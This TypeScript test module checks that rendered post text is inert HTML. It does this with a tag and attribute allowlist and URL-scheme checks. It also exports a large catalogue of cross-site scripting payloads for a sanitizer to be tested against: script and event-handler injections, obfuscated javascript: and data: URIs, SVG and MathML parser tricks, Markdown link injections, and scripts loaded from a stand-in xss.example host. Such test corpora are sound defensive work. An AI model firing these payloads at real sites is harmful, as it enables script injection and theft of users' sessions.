import { type DefaultTreeAdapterMap, parseFragment } from 'parse5';
import { isStorable } from '../../src/db/text.ts';

type TreeNode = DefaultTreeAdapterMap['node'];

/** What each tag may have besides, and all tags that rendered text has. */
const tags = new Map<string, readonly string[]>([
  ['a', ['href', 'rel', 'title', 'class', 'data-user-id']],
  ['ol', ['start']],
  ...['p', 'br', 'em', 'strong', 's', 'ul', 'li', 'code', 'pre', 'blockquote', 'hr'].map(plain),
  ...['h1', 'h2', 'h3', 'h4', 'h5', 'h6'].map(plain),
]);
const schemes = ['http:', 'https:', 'mailto:', 'xmpp:', 'matrix:', 'gemini:', 'tel:'];

function plain(tag: string): [string, readonly string[]] {
  return [tag, []];
}

function* walk(node: TreeNode): Generator<TreeNode> {
  yield node;
  if ('content' in node) yield* walk(node.content);
  if ('childNodes' in node) for (const child of node.childNodes) yield* walk(child);
}

function* faultsOf(node: TreeNode): Generator<string> {
  if (!('tagName' in node)) {
    if (!['#text', '#document-fragment'].includes(node.nodeName)) yield node.nodeName;
    return;
  }
  const allowed = tags.get(node.tagName);
  if (!allowed) yield `<${node.tagName}>`;
  const attributes = new Map(node.attrs.map(({ name, value }) => [name, value]));
  const isMention = attributes.get('class') === 'mention';
  for (const [name, value] of attributes) {
    if (allowed && !allowed.includes(name)) yield `<${node.tagName} ${name}>`;
    if (name !== 'href') continue;
    // As a browser reads it: without a base, so that a link to nowhere in particular is none.
    const scheme = URL.parse(value)?.protocol;
    const isFine = isMention ? /^\/@[A-Za-z0-9_.-]+$/.test(value) : schemes.includes(scheme ?? '');
    if (!isFine) yield `href ${value}`;
  }
  if (attributes.has('class') !== attributes.has('data-user-id')) yield 'half a mention';
  if (attributes.has('class') && !isMention) yield 'a class';
}

/** What a browser would find in this HTML that rendered text must not have, with scripts and without. */
export function faultsIn(html: string): string[] {
  const faults = [true, false].flatMap((scriptingEnabled) =>
    [...walk(parseFragment(html, { scriptingEnabled }))].flatMap((node) => [...faultsOf(node)]),
  );
  return [...new Set(faults)];
}

/** Throws unless a browser would find nothing in this HTML that loads, runs, frames or leads where it must not. */
export function expectInert(html: string): void {
  const faults = faultsIn(html);
  if (faults.length > 0) throw new Error(`${faults.join(', ')} in ${html}`);
}

const raw = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script/src=data:,alert(1)>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<script\x0b>alert(1)</script>',
  '<script\x00>alert(1)</script>',
  '<scr\x00ipt>alert(1)</scr\x00ipt>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG LOWSRC="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG SRC="livescript:[code]">',
  '<img/src=`x`onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<applet code=x></applet>',
  '<style>@import "https://xss.example/xss.css";</style>',
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=1">',
  '<base href="javascript:alert(1)//">',
  '<base target="<script>">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<input type="image" src="javascript:alert(1)">',
  '<select onfocus=alert(1) autofocus></select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<keygen onfocus=alert(1) autofocus>',
  '<button onclick=alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<body onscroll=alert(1)><br><br><input autofocus>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p onclick=alert(1)>x</p>',
  '<b/onmouseover=alert(1)//x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
  '<a onmouseover="alert(1)"',
  '<a href="/@ada" class="mention" data-user-id="x">@ada</a>',
  '<a data-mention="018f0000-0000-7000-8000-000000000001">@ada</a>',
  '<XSS STYLE="xss:expression(alert(1))">',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD>x</TABLE>',
  '<template><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><script>alert(1)</script></noframes>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<?import namespace="t" implementation="x">',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '\\<script\\>alert(1)\\</script\\>',
  '\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}',
  '\ud800<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<a href="x`<script>alert(1)</script>"',
  '< script > alert(1) < / script >',
];

/** Where links must not lead to, and a few of https that try to be more than a link: at the end. */
export const xssTargets: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61;alert(1)',
  '&#106;avascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#9;script:alert(1)',
  'java&#10;script:alert(1)',
  'java&#13;script:alert(1)',
  '&#1;javascript:alert(1)',
  '&#14;javascript:alert(1)',
  'javascript%3Aalert(1)',
  '%6Aavascript:alert(1)',
  'java%0ascript:alert(1)',
  'java%09script:alert(1)',
  'javascript\\:alert(1)',
  'java\\script:alert(1)',
  'java\x00script:alert(1)',
  '\x01javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'java\u017fcript:alert(1)',
  'javascript\uff1aalert(1)',
  'javascript://example.com/%0aalert(1)',
  'javascript:void(0)',
  "javascript:prompt('x')",
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'vbscript&#58;msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'data:image/png;base64,AAAA',
  'DaTa:image/gif;base64,R0lGOD',
  'data&colon;text/html,x',
  'data:;base64,PHNjcmlwdD4=',
  'data:text/html,x.pdf',
  'javascript:alert(1)//x.mp4',
  'file:///etc/passwd',
  'filesystem:https://a.example/x',
  'blob:https://a.example/x',
  'about:blank',
  'ftp://a.example/x',
  'intent://x#Intent;end',
  'ms-word:ofe|u|https://a.example',
  '//xss.example',
  '\\\\xss.example',
  '/\\xss.example',
  '/logout',
  '/@ada',
  '?x=1',
  '#x',
  'x',
  './x',
  'https:/\\/"onclick="alert(1)',
  'https://a.example/"onmouseover="alert(1)',
  "https://a.example/'onmouseover='alert(1)",
  'https://a.example/`onmouseover=`alert(1)',
  'https://a.example/&quot;onmouseover=&quot;alert(1)',
  'https://a.example/%22onmouseover=%22alert(1)',
  'https://a.example/?<script>alert(1)</script>',
  'https://javascript:alert(1)@a.example',
];

/** Every way in which Markdown leads somewhere. */
const links = [
  (to: string) => `[x](${to})`,
  (to: string) => `[x](<${to}>)`,
  (to: string) => `<${to}>`,
  (to: string) => `![x](${to})`,
  (to: string) => `[x][ref]\n\n[ref]: ${to}`,
  (to: string) => `[x]\n\n[x]: <${to}> "t"`,
];

const written = [
  '[x](java\nscript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](\njavascript:alert(1)\n)',
  '[x](javascript:alert(1) "t")',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example "&quot; onmouseover=&quot;alert(1)")',
  '[x](https://a.example \'" onmouseover="alert(1)\')',
  '[x](https://a.example (" onmouseover="alert(1)))',
  '[x](https://a.example "\'><script>alert(1)</script>")',
  '[x](https://a.example "<a data-mention=")',
  '[x](https://a.example "\n\n<script>alert(1)</script>")',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '[[x](javascript:alert(1))](javascript:alert(1))',
  '[a[b[c](javascript:alert(1))](https://a.example)',
  '[x](https://a.example)(javascript:alert(1))',
  '![x](https://a.example/x.png"onerror="alert(1))',
  '![x](x "title" onerror=alert(1))',
  '![" onerror="alert(1)](https://a.example/x.png)',
  '![`<img src=x onerror=alert(1)>`](x)',
  '[x]: javascript:alert(1)\n[x]: https://a.example\n\n[x]',
  '[ͅx]: javascript:alert(1)\n\n[ͅX]',
  '[__proto__]: javascript:alert(1)\n\n[__proto__]',
  '[constructor]',
  '<data:text/html,x>',
  '<https://a.example/"onclick=alert(1)>',
  '<a@b.example"onclick=alert(1)>',
  'javascript://www.example.com/%0Aalert(1)',
  'https://a.example/"><script>alert(1)</script>',
  'www.example.com"onmouseover="alert(1)',
  'a@b.example"onmouseover="alert(1)',
  '_https://a.example/_<script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '`` `<img src=x onerror=alert(1)>` ``',
  '```html\n<script>alert(1)</script>\n```',
  '```"onmouseover="alert(1)\nx\n```',
  '```<script>alert(1)</script>\nx\n```',
  '~~~ js"><img/src=x/onerror=alert(1)>\nx\n~~~',
  '    <script>alert(1)</script>',
  '<div>\n\n<script>alert(1)</script>\n\n</div>',
  '<pre>\n<script>alert(1)</script>\n</pre>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>',
  '1. <iframe src=javascript:alert(1)>',
  '99999999999. x\n"onclick="alert(1). y',
  '# <script>alert(1)</script>',
  '<script>\n=======',
  '**<script>alert(1)**</script>',
  '~~<script>~~alert(1)</script>',
  '<scr**ipt>alert(1)</scr**ipt>',
  '<!--\n\n<script>alert(1)</script>\n\n-->',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '@ada<script>alert(1)</script>',
  '@ada"onclick="alert(1)',
  '@ada</a><script>alert(1)</script>',
  '[@ada](javascript:alert(1))',
  '`<a data-mention="018f0000-0000-7000-8000-000000000001">@ada</a>`',
  '[x](https://a.example "<a data-mention=\\"018f0000-0000-7000-8000-000000000001\\">@ada</a>")',
  '#tag<script>alert(1)</script>',
  '#<script>alert(1)</script>',
];

/** Everywhere in a text that something may stand, beside names and tags that are read out of it. */
export const xssPlaces: readonly ((vector: string) => string)[] = [
  (vector) => `@bob ${vector} @bob #tag`,
  (vector) => `@bob${vector}`,
  (vector) => `${vector}@bob #tag${vector}`,
  (vector) => `#${vector}`,
  (vector) => `[@bob](${vector})`,
  (vector) => `[x](${vector})`,
  (vector) => `[x](<${vector}>)`,
  (vector) => `![x](${vector})`,
  (vector) => `<${vector}>`,
  (vector) => `https://a.example/${vector}`,
  (vector) => `[${vector}](https://a.example)`,
  (vector) => `![${vector}](https://a.example/x.png)`,
  (vector) => `[x](https://a.example "${vector}")`,
  (vector) => `[x][ref]\n\n[ref]: ${vector}`,
  (vector) => `[${vector}]\n\n[${vector}]: https://a.example '${vector}'`,
  (vector) => `**${vector}** _@bob ${vector}_ ~~${vector}~~`,
  (vector) => `\`${vector}\` \`\`@bob ${vector}\`\``,
  (vector) => `# ${vector}\n\n${vector}\n===`,
  (vector) => `> - ${vector}\n>   1. ${vector}`,
  (vector) => `    ${vector}`,
  (vector) => `\`\`\`${vector}\n@bob ${vector}\n\`\`\``,
  (vector) => `~~~html\n${vector}\n~~~`,
];

/** What people have written to run scripts in others' browsers, as HTML and as Markdown. */
export const xssVectors: readonly string[] = [
  ...raw,
  ...xssTargets.flatMap((to) => links.map((link) => link(to))),
  ...written,
];

/** Those of them that can be kept, as text is: without white space around it. */
export const xssTexts: readonly string[] = [
  ...new Set(xssVectors.filter(isStorable).map((vector) => vector.trim())),
];

/** Whether the text may stand where one line is asked for. */
export function isLine(text: string): boolean {
  return !/\p{Cc}/u.test(text);
}
